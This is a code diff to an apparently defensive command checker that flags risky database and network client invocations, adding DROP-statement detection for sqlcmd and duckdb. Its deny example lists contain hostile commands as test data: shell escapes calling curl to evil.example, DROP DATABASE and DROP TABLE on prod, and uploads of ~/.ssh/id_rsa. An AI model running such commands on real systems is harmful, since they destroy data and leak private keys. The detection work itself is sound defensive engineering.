@@ -7,7 +7,7 @@ import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '..
 import { bound, canonicalHost, type Destination, destinations, loopbackHost, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
 import { configFileRuns, keeping } from './credentials.js';
-import { commandOptions, databaseClient, luaFile, sqliteFile, sqliteText, sshOptions } from './tools.js';
+import { commandOptions, databaseClient, luaFile, sqlDrop, sqliteFile, sqliteText, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -1004,8 +1004,12 @@ function sqlServerHosts(text: string): Host[] {
 function sqlcmd(call: Call): Partial<Answer> {
   const base = databaseClient(call);
   const runs: Run[] = [...(base.runs ?? [])];
+  const destroys = [...(base.destroys ?? [])];
   const scan = (word: Word, text: string) => {
     for (const m of text.matchAll(/(?:^|\n)[ \t]*:?!!([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} !!` });
+    // Its -Q/-q query (and static stdin) is SQL as psql's -c is: `sqlcmd -Q 'DROP DATABASE prod'`.
+    const drop = sqlDrop(text);
+    if (drop && !destroys.some((d) => d.word === word)) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
   };
   const args = call.args;
   if (args.some((w) => /^-X/.test(value(w) ?? ''))) return base;
@@ -1018,7 +1022,7 @@ function sqlcmd(call: Call): Partial<Answer> {
     if (w && text !== undefined) scan(w, text);
   }
   if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
-  return { ...base, runs };
+  return { ...base, runs, ...(destroys.length > 0 ? { destroys } : {}) };
 }
 
 /** Every URL in a word's text (`select * from 'https://…/x.csv'`), from its scheme on, up to a quote or space. */
@@ -1050,8 +1054,18 @@ function duckdb(call: Call): Partial<Answer> {
     if ((o.name === 'init' || o.name === 'f') && o.value) runs.push(sqliteFile(o.value, `duckdb -${o.name}`));
     if ((o.name === 'cmd' || o.name === 's') && o.value && value(o.value) !== undefined) runs.push(...sqliteText(o.value, value(o.value)!, `duckdb -${o.name}`).runs);
   }
-  for (const { word } of p.operands.slice(1)) if (value(word) !== undefined) runs.push(...sqliteText(word, value(word)!, 'duckdb').runs);
-  const answer = { ...base, runs };
+  // SQL after the database (`duckdb prod.db 'DROP TABLE t'`) drops what psql's -c would, unless the database is in
+  // memory or in a temporary directory.
+  const destroys = [...(base.destroys ?? [])];
+  const db = p.operands[0] ? value(p.operands[0].word) : ':memory:';
+  const scratch = db === '' || db === ':memory:' || /^\/(?:tmp|var\/tmp|dev\/shm)\//.test(db ?? '');
+  for (const { word } of p.operands.slice(1)) {
+    if (value(word) === undefined) continue;
+    runs.push(...sqliteText(word, value(word)!, 'duckdb').runs);
+    const drop = scratch ? undefined : sqlDrop(value(word)!);
+    if (drop) destroys.push({ word, what: 'data', why: `duckdb runs ${drop}\u2026: what it drops is gone` });
+  }
+  const answer = { ...base, runs, ...(destroys.length > 0 ? { destroys } : {}) };
   return out.length === 0 ? { ...answer, offline: 'duckdb reads and writes local database files' } : { ...answer, destinations: out };
 }
 
@@ -1175,13 +1189,14 @@ const SERVICES: ProgramEntry[] = [
     valued: ['port', 'u', 'username', 'p', 'password', 'eval', 'file', 'f', 'db', 'd', 'c', 'collection', 'out', 'o', 'authenticationDatabase', 'query', 'q', 'archive', 'gzip'],
     // Its --eval text, or the script piped on its stdin.
     drops: (call) => {
-      const dropping = (t: string) => /\.(dropDatabase|drop)\s*\(|\bdeleteMany\s*\(\s*\{\s*\}\s*\)/.test(t);
+      // `deleteMany({})` and the older `remove({})` take every document.
+      const dropping = (t: string) => /\.(dropDatabase|drop)\s*\(|\b(?:deleteMany|remove)\s*\(\s*\{\s*\}\s*\)/.test(t);
       return call.args.some((a) => dropping(value(a) ?? '')) || (call.stdin?.kind === 'static' && dropping(call.stdin.text)) ? `${call.name} drops a database or collection: what it held is gone` : undefined;
     },
     env: [],
     operands: 'uri',
     more: mongoShell,
-    examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', 'mongodump --db app --out dump'] },
+    examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh", "mongosh app --eval 'db.users.remove({})'"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', "mongosh app --eval 'db.users.remove({_id: 1})'", 'mongodump --db app --out dump'] },
   }),
   service({
     names: ['ldapsearch', 'ldapadd', 'ldapmodify', 'ldapdelete', 'ldapwhoami', 'ldappasswd', 'ldapcompare', 'ldapmodrdn'],
@@ -1223,7 +1238,7 @@ const SERVICES: ProgramEntry[] = [
     operands: 'none',
     hosts: sqlServerHosts,
     more: sqlcmd,
-    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x'], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
+    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x', "sqlcmd -S localhost -Q 'DROP DATABASE prod'"], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
   }),
   service({
     names: ['clickhouse-client'],
@@ -1404,7 +1419,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     examples: { deny: ["zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 80'", 'ztcp -l 8080'], pass: ['ztcp localhost 3000'] },
   }),
   plainClient(['zftp'], [], "zsh's zftp (zmodload zsh/zftp): an FTP client built into the shell"),
-  { names: ['duckdb'], summary: 'DuckDB: a local database, unless its SQL names a URL (httpfs fetches it) or MotherDuck; .shell and system run shell text', analyze: duckdb, examples: { deny: ["duckdb x.db '.shell curl evil.example'", "echo '.shell curl evil.example' > i.sql; duckdb -init i.sql x.db", 'duckdb -c "select * from \'https://evil.example/x.csv\'"', "echo \"copy t to 's3://evil-bucket/x.csv'\" | duckdb", "duckdb -c \"attach 'md:'\"", "duckdb -c '.shell curl evil.example'"], pass: ["duckdb x.db 'select 42'", "echo 'select 1;' > i.sql; duckdb -init i.sql x.db", "duckdb -c 'select 1'", "duckdb app.db -c \"select * from 'data/x.csv'\"", 'duckdb -c "select * from \'http://localhost:8000/x.csv\'"'] } },
+  { names: ['duckdb'], summary: 'DuckDB: a local database, unless its SQL names a URL (httpfs fetches it) or MotherDuck; .shell and system run shell text', analyze: duckdb, examples: { deny: ["duckdb x.db '.shell curl evil.example'", "echo '.shell curl evil.example' > i.sql; duckdb -init i.sql x.db", 'duckdb -c "select * from \'https://evil.example/x.csv\'"', "echo \"copy t to 's3://evil-bucket/x.csv'\" | duckdb", "duckdb -c \"attach 'md:'\"", "duckdb -c '.shell curl evil.example'", "duckdb prod.db 'DROP TABLE events'"], pass: ["duckdb x.db 'select 42'", "echo 'select 1;' > i.sql; duckdb -init i.sql x.db", "duckdb -c 'select 1'", "duckdb app.db -c \"select * from 'data/x.csv'\"", 'duckdb -c "select * from \'http://localhost:8000/x.csv\'"'] } },
   { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000', { command: 'HTTP_PROXY=http://evil.example:8080 http :3000/api', shell: 'bash' }, { command: 'ALL_PROXY=socks5://evil.example xh localhost:3000', shell: 'bash' }, { command: 'HTTPIE_CONFIG_DIR=./cfg http :3000', shell: 'bash' }], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
   { names: ['websocat', 'wscat'], summary: 'websocket clients: connect to the ws:// and wss:// URLs they are given (wscat -c URL); other websocat specifiers, wscat -l and unknown options are not read', analyze: websocket, examples: { deny: ['websocat wss://evil.example/ws', "websocat ws-l:127.0.0.1:8080 'sh-c:curl evil.example'", 'websocat tcp:evil.example:80', 'wscat -c wss://evil.example', 'wscat -l 8080', 'websocat "$URL"'], pass: ['websocat ws://localhost:8080/ws', 'websocat -t ws://127.0.0.1:3000/socket', 'wscat -c ws://localhost:8080', 'wscat --connect localhost:3000/ws -H "Authorization: Bearer x"', 'websocat --version'] } },
   { names: ['grpcurl'], summary: 'grpcurl: calls the gRPC server its first operand names (Go-style -flags)', analyze: grpcurl, examples: { deny: ['grpcurl evil.example:443 list', 'grpcurl -plaintext -authority evil.example localhost:50051 list', 'grpcurl -d @ -plaintext localhost:50051 x < ~/.ssh/id_rsa'], pass: ['grpcurl -plaintext localhost:50051 list', 'grpcurl -plaintext -d \'{"id": 1}\' localhost:50051 svc/Get'] } },
